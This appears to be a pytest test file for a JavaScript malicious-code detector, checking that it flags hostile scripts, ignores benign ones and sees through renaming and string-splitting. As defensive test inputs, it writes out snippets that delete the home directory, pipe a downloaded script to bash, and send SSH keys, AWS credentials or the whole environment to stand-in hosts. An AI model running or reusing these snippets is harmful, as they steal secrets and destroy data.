"""JavaScript: what is found, what is not, and that disguise changes nothing."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guard.corpus import Pair, pairs
from whet.guard.code import checker as code
from whet.guard.finding import Hit, Seen, Severity
from whet.guard.javascript import checker as javascript
from whet.guard.rules import every, pack

SEVERITY: dict[str, Severity] = {rule.id: rule.severity for rule in every().values()}
SCRIPTS = (".js", ".mjs", ".ts")
PAIRS = [pair for pair in pairs() if pair.pack == "javascript"]


def seen(files: dict[str, bytes]) -> list[Hit]:
    found: list[Hit] = []
    for path, data in files.items():
        if path.endswith(SCRIPTS):
            found += javascript.check(data.decode()).hits
        elif not path.endswith((".md", ".dat")):
            found += code.check(data.decode()).hits
    return found


def rules(text: str) -> set[str]:
    """The rules that a script breaks, those that only inform left out."""
    return {hit.rule for hit in javascript.check(text).hits if (hit.severity or SEVERITY[hit.rule]) != "info"}


@pytest.mark.parametrize("pair", PAIRS, ids=lambda pair: pair.id)
def test_a_danger_is_found_and_its_twin_is_clean(pair: Pair) -> None:
    bad = seen({path: item.data for path, item in pair.bad.items()})
    good = seen({path: item.data for path, item in pair.good.items()})
    assert set(pair.rules) <= {hit.rule for hit in bad}
    assert [hit for hit in good if hit.rule in pair.rules or (hit.severity or SEVERITY.get(hit.rule)) != "info"] == []


def test_every_rule_has_a_pair() -> None:
    assert {rule.id for rule in pack("javascript")} - {rule for pair in PAIRS for rule in pair.rules} == set()


def test_lines_are_those_of_the_script() -> None:
    text = "\n\nconst os = require('os');\n\nrequire('fs').rmSync(os.homedir(), { recursive: true });\n"
    assert [(hit.rule, hit.line, hit.subject) for hit in javascript.check(text).hits] == [("wipe-home", 5, "~")]


@pytest.mark.parametrize(
    "url",
    ["https://status.invalid/x", "http://203.0.113.5/x", "wss://status.invalid"],
)
def test_the_environment_is_followed_through_functions(url: str) -> None:
    text = (
        "class Reporter {\n  constructor() { this.state = Object.entries(process.env); }\n"
        f"  send() {{ const socket = new WebSocket('{url}'); socket.send(this.pack()); }}\n"
        "  pack() { return JSON.stringify(this.state); }\n}\nnew Reporter().send();\n"
    )
    assert rules(text) == {"secret-sent"}


HONEST = {
    "a key in its header": (
        "fetch('https://api.invalid/v1', {headers: {Authorization: `Bearer ${process.env.API_KEY}`}})"
    ),
    "a bot's own token": (
        "fetch(`https://api.telegram.org/bot${process.env.TELEGRAM_BOT_TOKEN}/sendMessage`,"
        " {body: JSON.stringify({text: 'done'})})"
    ),
    "the environment for a child": "require('child_process').spawn('ls', [], {env: {...process.env, A: '1'}})",
    "one variable of a copy": "const env = {...process.env}; fetch('https://a.invalid', {body: env.REGION})",
    "this machine": "fetch('http://localhost:3000/x').then(r => r.text()).then(t => eval(t))",
    "code of its own": "const make = new Function('a', 'return a + 1'); setTimeout('tick()', 10);",
    "a token of the page": "fetch('https://a.invalid', {headers: {X: localStorage.getItem('token')}})",
    "an answer as data": (
        "const d = await (await fetch('https://a.invalid')).json();"
        " require('child_process').execFile('convert', [d.url])"
    ),
    "a release": (
        "const fs = require('fs'); const r = await fetch('https://github.com/a/b/releases/download/v1/b');"
        " fs.writeFileSync('/tmp/b', Buffer.from(await r.arrayBuffer())); require('child_process').spawn('/tmp/b')"
    ),
    "its own directory": "require('fs').rmSync(require('path').join(__dirname, 'dist'), {recursive: true})",
    "comments": "// eval(atob('aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ='))\nconst a = 1;",
    "text": "const help = \"never run eval(atob('aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ='))\"; fetch;",
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_scripts_are_left_alone(name: str) -> None:
    assert rules(HONEST[name]) == set()


def test_a_command_is_judged_as_shell_on_the_line_of_the_call() -> None:
    text = "const { exec } = require('child_process');\n\nexec(`curl -s http://203.0.113.9/${name} | bash`);\n"
    lines = {hit.line for hit in javascript.check(text).hits if (hit.severity or "critical") == "critical"}
    assert lines == {3}


def test_facts_tell_what_other_files_must_know() -> None:
    text = (
        "const fs = require('fs');\n"
        "const key = fs.readFileSync(process.env.HOME + '/.aws/credentials');\n"
        "fs.writeFileSync('out/state.txt', key);\n"
        "require('child_process').execFile('./out/run.sh');\n"
        "fetch('https://a.invalid/v', {body: data});\n"
    )
    facts = [(fact.kind, fact.subject, fact.line, fact.grave) for fact in javascript.check(text).facts]
    assert facts == [
        ("source", "~/.aws/credentials", 2, True),
        ("execute", "./out/run.sh", 4, False),
        ("sink", "https://a.invalid/v", 5, False),
        ("fetch", "https://a.invalid/v", 5, False),
    ]


NAMES = st.from_regex(r"[a-z]{2,8}[A-Z][a-z]{1,6}", fullmatch=True)


@settings(max_examples=60, deadline=None)
@given(st.lists(NAMES, min_size=4, max_size=4, unique=True), st.integers(1, 12), st.booleans())
def test_renaming_splitting_and_wrapping_hide_nothing(names: list[str], cut: int, wrapped: bool) -> None:
    module, key, send, target = names
    name = "child_process"
    script = (
        f"const {module} = require('{name[:cut]}' + '{name[cut:]}');\n"
        f"const {target} = ['https://collect', '.invalid/x'].join('');\n"
        f"const {key} = require('fs').readFileSync([require('os').homedir(), '.ss' + 'h', 'id_rsa'].join('/'));\n"
        f"function {send}(x) {{ return fetch({target}, {{ method: 'POST', body: x }}); }}\n"
        f"{send}({key});\n{module}['ex' + 'ec']('ls');\n"
    )
    if wrapped:
        script = f"(async function () {{\n{script}}})();\n"
    assert rules(script) == {"secret-sent", "hidden-call"}


PIECES = st.sampled_from(
    [
        "eval(",
        ")",
        "(",
        "{",
        "}",
        "[",
        "]",
        "process.env",
        "fetch",
        "=>",
        "'a'",
        "`${",
        "}`",
        "+",
        "=",
        "const x",
        ";",
        "\n",
        ".then",
        "require('fs')",
        ".x",
        "['a'+'b']",
        "function f",
        "async ",
        "class A",
        "import ",
        " from 'fs'",
        "...",
        "0x1f",
        "\\u0065",
        "atob('YQ==')",
        "\ud83d\ude00",
        "a",
        ",",
        "Buffer.from(",
        "new ",
        "return ",
        "this.",
        "/*",
        "//",
    ]
)


@settings(max_examples=200, deadline=None)
@given(st.lists(PIECES, max_size=60).map("".join) | st.text(max_size=200))
def test_no_text_raises(text: str) -> None:
    assert isinstance(javascript.check(text), Seen)
    assert isinstance(javascript.check("eval(x);" + text), Seen)


@pytest.mark.parametrize(
    "text",
    [
        "eval(" * 3000,
        "[" * 5000 + "fetch",
        "'a'+" * 5000 + "eval",
        "fetch" + ".then(x=>x)" * 2000,
        "const a={};fetch;" + "a.b=a;" * 3000,
        "x=>" * 2000 + "eval(x)",
        "`${" * 2000 + "fetch",
        "[]+(![])" * 3000,
        "_0x1a2b," * 20000,
    ],
)
def test_strange_shapes_are_survived(text: str) -> None:
    assert isinstance(javascript.check(text), Seen)


def test_what_only_talks_is_noted_for_the_other_files() -> None:
    facts = javascript.check("export const put = (url, rows) => fetch(url, { method: 'PUT', body: rows });").facts
    assert {(fact.kind, fact.line) for fact in facts} == {("fetch", 1), ("sink", 1)}


@pytest.mark.parametrize(
    "way",
    [
        "const out = []; for (const n of fs.readdirSync(d)) out.push(fs.readFileSync(d + n)); send(out);",
        "const out = {}; fs.readdirSync(d).forEach((n) => { out[n] = fs.readFileSync(d + n); }); send(out);",
        "const out = new Map(); out.set('a', fs.readFileSync(d + 'id_rsa')); send([...out]);",
        "fs.copyFileSync(d + 'id_rsa', '/tmp/a'); send(fs.readFileSync('/tmp/a'));",
        "class A { take() { this.a = {}; this.a.b = fs.readFileSync(d + 'id_rsa'); send(JSON.stringify(this.a)); } }",
        "const pick = () => { if (win) return 'C:/x'; return d + 'id_rsa'; }; send(fs.readFileSync(pick()));",
    ],
)
def test_what_is_kept_in_an_object_is_followed(way: str) -> None:
    text = (
        "const fs = require('fs'); const d = require('os').homedir() + '/.ssh/';\n"
        "function send(body) { fetch('https://status.invalid/x', { method: 'POST', body }); }\n"
    )
    assert rules(text + way) == {"secret-sent"}


def test_types_do_not_hide_a_class() -> None:
    text = (
        "interface Row { name: string; inner: { at: number } }\n"
        "export class Copy implements Task {\n"
        "  private readonly rows: Row[] = [];\n"
        "  constructor(private readonly where: string) {}\n"
        "  public async run(): Promise<void> {\n"
        "    const all: string = JSON.stringify(process.env);\n"
        "    await fetch(this.where as string, { method: 'POST', body: all });\n"
        "  }\n"
        "}\n"
    )
    assert rules(text) == {"secret-sent"}


@pytest.mark.parametrize(
    "text", ["x.push(x);", "x={...x,a:x};", "x=[x,x];", "x.a=x;JSON.stringify(x);", "x=[...x,...x];"]
)
def test_what_holds_itself_comes_to_an_end(text: str) -> None:
    assert rules("eval; let x=[1];" + text * 400) == set()
